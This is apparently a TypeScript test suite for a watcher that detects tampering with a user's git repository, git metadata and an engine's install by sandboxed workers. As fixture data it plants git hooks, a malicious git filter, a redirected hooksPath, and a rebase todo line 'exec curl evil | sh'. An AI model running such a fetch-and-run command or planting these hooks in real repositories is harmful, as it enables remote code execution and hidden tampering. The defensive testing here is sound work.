import t from 'tap';
import fs, { chmodSync, existsSync, mkdirSync, renameSync, rmSync, symlinkSync, unlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { syncBuiltinESMExports } from 'node:module';
import path from 'node:path';
import { compareFingerprints, fingerprintTrees, type WatchedTree } from '../../engine/governance/watch-files.js';
import { dropPlantedCaches, outsideChanges, outsideTrees, takeBaselines, watchOutside } from '../../engine/runtime/watch-outside.js';
import { commitCheckpoint } from '../../engine/git/checkpoint.js';
import { snapshotTree } from '../../engine/git/snapshot.js';
import { git, makeRepo, makeWorkspace, tempDir, writeFiles } from '../git/fixtures/repo.js';

function tree(t: { teardown(fn: () => void): void }): string {
  const root = tempDir(t, 'engine-watch-');
  writeFiles(root, { 'config': 'c\n', 'refs/heads/main': 'a\n', 'refs/heads/engine/r1': 'b\n', 'hooks/README': 'h\n', 'deep/a/b/c.txt': 'c\n' });
  symlinkSync('config', path.join(root, 'link'));
  return root;
}

t.test("the engine's install: source maps and type declarations are not stat'ed; code is", async (t) => {
  // Walked after every step without the OS sandbox: of the 850 entries of dist/, 540 are
  // .map and .d.ts files nothing runs (3,800 stats a milestone, most of them those).
  const root = tempDir(t, 'engine-watch-install-');
  writeFiles(root, { 'dist/engine/a.js': 'code\n', 'dist/engine/a.js.map': '{}\n', 'dist/engine/a.d.ts': 'export {};\n' });
  const [install] = outsideTrees({ dir: '/ws', gitDir: '/ws.git', repo: { top: '/repo', gitDir: '/repo/.git', commonDir: '/repo/.git' }, branch: 'engine/x', shared: [], findings: [] } as never, root, false).filter((x) => x.rule === 'engine_install');
  const before = fingerprintTrees([install!]);
  t.same([...before.keys()].map((k) => k.split('\0')[2]).sort(), ['dist', 'dist/engine', 'dist/engine/a.js']);
  writeFiles(root, { 'dist/engine/a.js.map': '{"changed":1}\n', 'dist/engine/a.d.ts': 'export const x = 1;\n' });
  t.same(compareFingerprints([install!], before, fingerprintTrees([install!])), [], 'a change there is nothing the engine runs');
  writeFiles(root, { 'dist/engine/a.js': 'planted code\n' });
  t.equal(compareFingerprints([install!], before, fingerprintTrees([install!])).length, 1, 'a change of code is seen');
});

t.test('added, removed and changed files are reported with their rule and label, sorted', async (t) => {
  const root = tree(t);
  const trees: WatchedTree[] = [{ rule: 'user_repo', root, paths: ['config', 'refs', 'hooks', 'deep', 'link', 'not-yet'], label: (rel) => `<repo>/${rel}` }];
  const before = fingerprintTrees(trees);
  t.same(compareFingerprints(trees, before, fingerprintTrees(trees)), [], 'nothing changed');
  writeFiles(root, { 'config': 'changed, longer\n', 'hooks/pre-commit': 'evil\n', 'not-yet': 'now\n' });
  unlinkSync(path.join(root, 'refs/heads/main'));
  unlinkSync(path.join(root, 'link'));
  symlinkSync('elsewhere', path.join(root, 'link'));
  const got = compareFingerprints(trees, before, fingerprintTrees(trees));
  t.same(got, ['config', 'hooks/pre-commit', 'link', 'not-yet', 'refs/heads/main'].map((rel) => ({ path: `<repo>/${rel}`, rule: 'user_repo', pattern: null })));
});

t.test('the same size and content written again still counts (mtime), a directory mtime alone does not', async (t) => {
  const root = tree(t);
  const trees: WatchedTree[] = [{ rule: 'engine_git', root, paths: ['config', 'deep'] }];
  const before = fingerprintTrees(trees);
  // A lock file that comes and goes touches the directory's mtime only.
  writeFileSync(path.join(root, 'deep/a/b/x.lock'), 'l');
  unlinkSync(path.join(root, 'deep/a/b/x.lock'));
  utimesSync(path.join(root, 'deep/a'), new Date(5e12), new Date(5e12));
  t.same(compareFingerprints(trees, before, fingerprintTrees(trees)), [], 'directories do not report on mtime');
  utimesSync(path.join(root, 'config'), new Date(5e12), new Date(5e12));
  t.same(compareFingerprints(trees, before, fingerprintTrees(trees)), [{ path: 'config', rule: 'engine_git', pattern: null }], 'default label: the relative path');
  chmodSync(path.join(root, 'deep/a'), 0o700);
  const modeBefore = fingerprintTrees(trees);
  chmodSync(path.join(root, 'deep/a'), 0o755);
  t.same(compareFingerprints(trees, modeBefore, fingerprintTrees(trees)), [{ path: 'deep/a', rule: 'engine_git', pattern: null }], 'a directory mode change does');
  rmSync(path.join(root, 'deep'), { recursive: true });
  t.same(compareFingerprints(trees, modeBefore, fingerprintTrees(trees)).map((v) => v.path), ['deep', 'deep/a', 'deep/a/b', 'deep/a/b/c.txt'], 'a removed directory reports each entry');
});

/** Counts readdirSync calls while fn runs. */
function countListings<T>(fn: () => T): { result: T; listings: number } {
  const real = fs.readdirSync;
  let listings = 0;
  fs.readdirSync = ((...args: Parameters<typeof real>) => {
    listings++;
    return real(...args);
  }) as typeof real;
  syncBuiltinESMExports();
  try {
    return { result: fn(), listings };
  } finally {
    fs.readdirSync = real;
    syncBuiltinESMExports();
  }
}

t.test('a settled directory is not listed again, and nothing added, removed or renamed in it goes unseen', async (t) => {
  const root = tree(t);
  const trees: WatchedTree[] = [{ rule: 'engine_install', root, paths: ['refs', 'hooks', 'deep'] }];
  const later = () => Date.now() + 10_000;
  const before = fingerprintTrees(trees, later);
  const again = countListings(() => fingerprintTrees(trees, later));
  t.equal(again.listings, 0, 'no readdir when no directory changed');
  t.same(compareFingerprints(trees, before, again.result), []);
  writeFiles(root, { 'deep/a/b/planted.js': 'evil\n' });
  unlinkSync(path.join(root, 'hooks/README'));
  renameSync(path.join(root, 'refs/heads/main'), path.join(root, 'refs/heads/mains'));
  const after = countListings(() => fingerprintTrees(trees, later));
  t.equal(after.listings, 3, 'each changed directory is listed again, and only those');
  t.same(compareFingerprints(trees, before, after.result).map((v) => v.path), ['deep/a/b/planted.js', 'hooks/README', 'refs/heads/main', 'refs/heads/mains']);
  writeFiles(root, { 'deep/a/b/c.txt': 'rewritten in place\n' });
  const rewritten = countListings(() => fingerprintTrees(trees, later));
  t.equal(rewritten.listings, 0, 'a file written in place leaves its directory alone');
  t.same(compareFingerprints(trees, after.result, rewritten.result).map((v) => v.path), ['deep/a/b/c.txt'], 'and is still seen');
});

t.test('a directory that changed within the last seconds is listed at every walk', async (t) => {
  const root = tree(t);
  const trees: WatchedTree[] = [{ rule: 'engine_install', root, paths: ['deep'] }];
  fingerprintTrees(trees);
  t.equal(countListings(() => fingerprintTrees(trees)).listings, 3, 'deep, deep/a and deep/a/b were just made: listed again');
});

t.test('skip leaves a subtree out, whatever happens in it', async (t) => {
  const root = tree(t);
  const trees: WatchedTree[] = [{ rule: 'user_repo', root, paths: ['refs'], skip: ['refs/heads/engine'] }];
  const before = fingerprintTrees(trees);
  t.notOk([...before.keys()].some((k) => k.includes('refs/heads/engine')), 'nothing under the skipped path is fingerprinted');
  writeFiles(root, { 'refs/heads/engine/r1': 'moved\n', 'refs/heads/engine/r2': 'new\n' });
  t.same(compareFingerprints(trees, before, fingerprintTrees(trees)), []);
  writeFiles(root, { 'refs/heads/engine2': 'next door\n' });
  t.same(compareFingerprints(trees, before, fingerprintTrees(trees)), [{ path: 'refs/heads/engine2', rule: 'user_repo', pattern: null }], 'a sibling with a longer name is not skipped');
});

t.test('an index is compared by what it stages', async (t) => {
  const repo = makeRepo(t, { 'a.txt': 'a\n', 'b.txt': 'b\n' });
  const gitDir = path.join(repo, '.git');
  const trees: WatchedTree[] = [{ rule: 'user_repo', root: gitDir, paths: ['HEAD', 'index'], isIndex: (rel) => rel === 'index' }];
  const before = fingerprintTrees(trees);
  utimesSync(path.join(repo, 'a.txt'), new Date(5e12), new Date(5e12));
  git(repo, 'status', '--porcelain');
  t.same(compareFingerprints(trees, before, fingerprintTrees(trees)), [], 'a refresh is not a change');
  writeFiles(repo, { 'a.txt': 'staged\n' });
  git(repo, 'add', 'a.txt');
  t.same(compareFingerprints(trees, before, fingerprintTrees(trees)), [{ path: 'index', rule: 'user_repo', pattern: null }]);
  // Without `indexes` the same refresh is a change.
  const raw: WatchedTree[] = [{ rule: 'user_repo', root: gitDir, paths: ['index'] }];
  const rawBefore = fingerprintTrees(raw);
  utimesSync(path.join(repo, 'b.txt'), new Date(6e12), new Date(6e12));
  git(repo, 'status', '--porcelain');
  t.same(compareFingerprints(raw, rawBefore, fingerprintTrees(raw)).map((v) => v.path), ['index'], 'control: the file itself was rewritten');
});

t.test('trees with the same root but different rules are told apart', async (t) => {
  const root = tree(t);
  const trees: WatchedTree[] = [
    { rule: 'user_repo', root, paths: ['config'] },
    { rule: 'shared_path', root, paths: ['hooks'] },
  ];
  const before = fingerprintTrees(trees);
  writeFiles(root, { 'hooks/new': 'n\n' });
  t.same(compareFingerprints(trees, before, fingerprintTrees(trees)), [{ path: 'hooks/new', rule: 'shared_path', pattern: null }]);
});

t.test('a tree compared by content: the same bytes written again are no change, other bytes are', async (t) => {
  const root = tempDir(t, 'engine-watch-content-');
  writeFiles(root, { '.engine/policy.yaml': 'a: 1\n', '.engine/templates/plan.md': 'plan\n' });
  const trees: WatchedTree[] = [{ rule: 'user_repo', root, paths: ['.engine'], digestAll: (b) => String(b.length) + b.toString('hex') }];
  const before = fingerprintTrees(trees);
  writeFiles(root, { '.engine/policy.yaml': 'a: 1\n' });
  utimesSync(path.join(root, '.engine', 'policy.yaml'), new Date(6e12), new Date(6e12));
  t.same(compareFingerprints(trees, before, fingerprintTrees(trees)), [], 'rewritten with its own bytes, a new mtime: no change');
  writeFiles(root, { '.engine/policy.yaml': 'a: 2\n', '.engine/templates/implement.md': 'new\n' });
  t.same(compareFingerprints(trees, before, fingerprintTrees(trees)).map((v) => v.path), ['.engine/policy.yaml', '.engine/templates/implement.md']);
});

t.test("outsideTrees: the engine's own checkpoint is no violation; tampering with the user repo or the engine git dir is", async (t) => {
  const repo = makeRepo(t, { 'a.txt': 'a\n', '.gitignore': 'node_modules/\n' });
  writeFiles(repo, { 'node_modules/dep/index.js': 'd\n' });
  const install = tempDir(t, 'engine-install-');
  writeFiles(install, { 'package.json': '{}\n', 'dist/code-cache/x': 'cache\n', 'dist/cli.js': 'cli\n' });
  const { ws, baseSha } = await makeWorkspace(t, repo, 'watch', ['node_modules']);
  const watch = watchOutside(outsideTrees(ws, install, true));
  writeFiles(ws.dir, { 'b.txt': 'b\n' });
  const sha = await commitCheckpoint({ ws, tree: await snapshotTree(ws), parent: baseSha, message: { title: 't', runId: 'watch', milestone: '1', step: 's' }, author: { name: 'E', email: 'e@x' }, date: new Date(0) });
  t.equal(git(repo, 'rev-parse', 'engine/watch'), sha);
  utimesSync(path.join(repo, 'a.txt'), new Date(5e12), new Date(5e12));
  git(repo, 'status', '--porcelain');
  t.same(outsideChanges(watch), [], 'a checkpoint and a user `git status` are not violations');
  const gitDir = path.join(repo, '.git');
  writeFiles(gitDir, { 'hooks/post-checkout': 'evil\n', 'refs/heads/planted': `${sha}\n` });
  writeFiles(ws.gitDir, { 'config': '[filter "x"]\n\tclean = evil\n' });
  writeFiles(install, { 'dist/cli.js': 'patched cli\n', 'dist/code-cache/y': 'planted cache\n' });
  writeFiles(repo, { 'node_modules/dep/index.js': 'patched dep\n' });
  writeFileSync(path.join(gitDir, 'HEAD'), 'ref: refs/heads/planted\n');
  const got = outsideChanges(watch);
  t.same(got.map((v) => [v.rule, v.path]), [
    ['engine_git', `${ws.gitDir}/config`],
    ['engine_install', path.join(install, 'dist/cli.js')],
    ['engine_install', path.join(install, 'dist/code-cache/y')],
    ['shared_path', 'node_modules/dep/index.js'],
    ['user_repo', `${ws.repo.gitDir}/HEAD`],
    ['user_repo', `${ws.repo.gitDir}/hooks/post-checkout`],
    ['user_repo', `${ws.repo.gitDir}/refs/heads/planted`],
  ]);
  // A code cache that changed is removed (the next command writes it again from the bundle); nothing else is.
  t.same(dropPlantedCaches(watch, got), [path.join(install, 'dist/code-cache/y')]);
  t.notOk(existsSync(path.join(install, 'dist/code-cache/y')), 'the planted cache is gone');
  t.ok(existsSync(path.join(install, 'dist/code-cache/x')) && existsSync(path.join(install, 'dist/cli.js')), 'the unchanged cache and the patched file stay');
  writeFiles(install, { 'dist/code-cache/y': 'planted cache\n' });
  mkdirSync(path.join(gitDir, 'refs', 'heads', 'engine', 'other'), { recursive: true });
  t.equal(outsideChanges(watch).length, got.length, 'refs under engine/ are the engine\'s to write');
});

t.test('outsideTrees from a linked worktree watches its own HEAD and index and the common dir', async (t) => {
  const main = makeRepo(t, { 'a.txt': 'a\n' });
  const linked = path.join(tempDir(t), 'linked');
  git(main, 'worktree', 'add', '-q', '-b', 'feature', linked);
  const install = tempDir(t, 'engine-install-');
  writeFiles(install, { 'package.json': '{}\n' });
  const { ws, baseSha } = await makeWorkspace(t, linked, 'lw');
  t.not(ws.repo.gitDir, ws.repo.commonDir);
  const watch = watchOutside(outsideTrees(ws, install, false));
  writeFiles(ws.dir, { 'b.txt': 'b\n' });
  await commitCheckpoint({ ws, tree: await snapshotTree(ws), parent: baseSha, message: { title: 't', runId: 'lw', milestone: '1', step: 's' }, author: { name: 'E', email: 'e@x' }, date: new Date(0) });
  t.same(outsideChanges(watch), [], 'the checkpoint is not a violation');
  git(main, 'config', 'core.hooksPath', '/tmp/evil');
  git(linked, 'checkout', '-q', '--detach');
  t.same(outsideChanges(watch).map((v) => v.path), [`${ws.repo.commonDir}/config`, `${ws.repo.gitDir}/HEAD`]);
});

t.test('a tree held back from the session baseline is measured from when its baseline is taken (a grant first reaching it)', async (t) => {
  const repo = makeRepo(t, { 'a.txt': 'a\n' });
  const install = tempDir(t, 'engine-install-');
  writeFiles(install, { 'package.json': '{}\n', 'dist/cli.js': 'cli\n' });
  const { ws } = await makeWorkspace(t, repo, 'held', []);
  const isInstall = (tree: WatchedTree) => tree.rule === 'engine_install';
  // Kept out until a grant reaches the install, as the sandbox would say.
  let reached = false;
  const watch = watchOutside(outsideTrees(ws, install, false), (tree) => isInstall(tree) && !reached);
  t.notOk([...watch.baselines.keys()].some(isInstall), 'no baseline for the held-back tree yet');
  t.same(outsideChanges(watch), [], 'skipped while no grant reaches it');
  // Changed before any grant reached it (by the user, say): not a step's doing.
  writeFiles(install, { 'dist/cli.js': 'updated by the user\n' });
  reached = true;
  takeBaselines(watch);
  t.same(outsideChanges(watch), [], 'the baseline is the tree as it was when the grant came');
  writeFiles(install, { 'dist/cli.js': 'patched by a worker\n' });
  t.same(outsideChanges(watch).map((v) => [v.rule, v.path]), [['engine_install', path.join(install, 'dist/cli.js')]]);
  // A tree walked before anything took its baseline gets one then, and reports nothing it cannot know.
  let lateReached = false;
  const late = watchOutside(outsideTrees(ws, install, false), (tree) => isInstall(tree) && !lateReached);
  lateReached = true;
  writeFiles(install, { 'dist/cli.js': 'again\n' });
  t.same(outsideChanges(late), [], 'nothing to compare with');
  writeFiles(install, { 'dist/cli.js': 'and again\n' });
  t.equal(outsideChanges(late).length, 1, 'from then on it is watched');
});

t.test("outsideTrees: git's state beyond HEAD and refs — a merge, a rebase's todo, a sequencer, shallow, worktrees, submodules, packs, rerere — is watched", async (t) => {
  const repo = makeRepo(t, { 'a.txt': 'a\n' });
  git(repo, 'gc', '-q');
  const gitDir = path.join(repo, '.git');
  const pack = fs.readdirSync(path.join(gitDir, 'objects', 'pack')).find((n) => n.endsWith('.pack'))!;
  writeFiles(gitDir, { 'modules/sub/HEAD': 'ref: refs/heads/main\n', 'modules/sub/objects/ab/cdef': 'x\n', 'worktrees/wt/HEAD': 'ref: refs/heads/main\n' });
  const install = tempDir(t, 'engine-install-');
  writeFiles(install, { 'package.json': '{}\n' });
  const { ws, baseSha } = await makeWorkspace(t, repo, 'state');
  const watch = watchOutside(outsideTrees(ws, install, false));
  writeFiles(ws.dir, { 'b.txt': 'b\n' });
  await commitCheckpoint({ ws, tree: await snapshotTree(ws), parent: baseSha, message: { title: 't', runId: 'state', milestone: '1', step: 's' }, author: { name: 'E', email: 'e@x' }, date: new Date(0) });
  // git freshens a pack by its times when it writes an object the pack holds; a submodule's objects are its own git's.
  utimesSync(path.join(gitDir, 'objects', 'pack', pack), new Date(5e12), new Date(5e12));
  writeFiles(gitDir, { 'modules/sub/objects/ab/0123': 'y\n' });
  t.same(outsideChanges(watch), [], "the engine's checkpoint, a freshened pack and a submodule's new object are no violation");
  const planted: Record<string, string> = {
    'MERGE_HEAD': `${baseSha}\n`,
    'MERGE_MSG': 'merge\n',
    'MERGE_MODE': 'no-ff\n',
    'CHERRY_PICK_HEAD': `${baseSha}\n`,
    'REVERT_HEAD': `${baseSha}\n`,
    'ORIG_HEAD': `${baseSha}\n`,
    'SQUASH_MSG': 'squash\n',
    'shallow': `${baseSha}\n`,
    'rebase-merge/git-rebase-todo': 'exec curl evil | sh\n',
    'rebase-apply/next': '1\n',
    'sequencer/todo': 'exec evil\n',
    'worktrees/evil/gitdir': '/tmp/evil/.git\n',
    'worktrees/wt/HEAD': `${baseSha}\n`,
    'modules/sub/hooks/post-checkout': 'evil\n',
    'objects/pack/pack-0000000000000000000000000000000000000000.pack': 'PACK\n',
    'remotes/origin': 'URL: /tmp/evil\n',
    'rr-cache/0000/postimage': 'evil\n',
  };
  writeFiles(gitDir, planted);
  const got = outsideChanges(watch).map((v) => v.path);
  for (const rel of Object.keys(planted)) t.ok(got.includes(`${gitDir}/${rel}`), `${rel} is a violation`);
  t.notOk(got.some((p) => p.includes('/modules/sub/objects/')), 'no submodule object is walked');
  // Rewritten by every background fetch of an editor, and read by git only right after it writes it.
  writeFiles(gitDir, { 'FETCH_HEAD': `${baseSha}\t\tbranch 'main' of /tmp/x\n` });
  t.equal(outsideChanges(watch).length, got.length, 'FETCH_HEAD is left out');
  // The same in another worktree's or a submodule's git dir: a fetch there with nothing new stopped the run.
  writeFiles(gitDir, { 'worktrees/wt/FETCH_HEAD': `${baseSha}\n`, 'worktrees/wt/logs/HEAD': 'x\n', 'modules/sub/FETCH_HEAD': `${baseSha}\n`, 'modules/sub/logs/refs/heads/main': 'x\n' });
  t.equal(outsideChanges(watch).length, got.length, "other worktrees' and submodules' FETCH_HEAD and reflogs are left out");
});

t.test('outsideTrees from a linked worktree: its commondir file and merge state, and the common dir once', async (t) => {
  const main = makeRepo(t, { 'a.txt': 'a\n' });
  const linked = path.join(tempDir(t), 'linked');
  git(main, 'worktree', 'add', '-q', '-b', 'feature', linked);
  const install = tempDir(t, 'engine-install-');
  writeFiles(install, { 'package.json': '{}\n' });
  const { ws, baseSha } = await makeWorkspace(t, linked, 'lw2');
  const watch = watchOutside(outsideTrees(ws, install, false));
  writeFiles(ws.repo.gitDir, { 'MERGE_HEAD': `${baseSha}\n`, 'commondir': '/tmp/evil\n' });
  writeFiles(ws.repo.commonDir, { 'shallow': `${baseSha}\n` });
  t.same(outsideChanges(watch).map((v) => v.path).sort(), [`${ws.repo.commonDir}/shallow`, `${ws.repo.gitDir}/MERGE_HEAD`, `${ws.repo.gitDir}/commondir`].sort(), 'each once, the worktree\'s own under its git dir');
});

t.test('in a settled directory each walk sees a change of mode, size, mtime or inode alone', async (t) => {
  // The walk keeps each file's fingerprint while its stat stands: every part of the stat must still count.
  const root = tree(t);
  const trees: WatchedTree[] = [{ rule: 'engine_install', root, paths: ['deep'] }];
  const later = () => Date.now() + 10_000;
  const file = path.join(root, 'deep/a/b/c.txt');
  const seen = (change: () => void): string[] => {
    const before = fingerprintTrees(trees, later);
    change();
    return compareFingerprints(trees, before, fingerprintTrees(trees, later)).map((v) => v.path);
  };
  t.same(seen(() => {}), [], 'nothing changed, nothing seen');
  t.same(seen(() => chmodSync(file, 0o755)), ['deep/a/b/c.txt'], 'mode');
  t.same(seen(() => writeFileSync(file, 'longer text\n')), ['deep/a/b/c.txt'], 'size');
  t.same(seen(() => utimesSync(file, new Date(2001, 1, 1), new Date(2001, 1, 1))), ['deep/a/b/c.txt'], 'mtime');
  const twin = path.join(root, 'deep/a/c.txt');
  writeFileSync(twin, 'longer text\n');
  const { mtime } = fs.statSync(file);
  utimesSync(twin, mtime, mtime);
  t.same(seen(() => renameSync(twin, file)), ['deep/a/b/c.txt', 'deep/a/c.txt'], 'the same bytes and times under another inode');
});
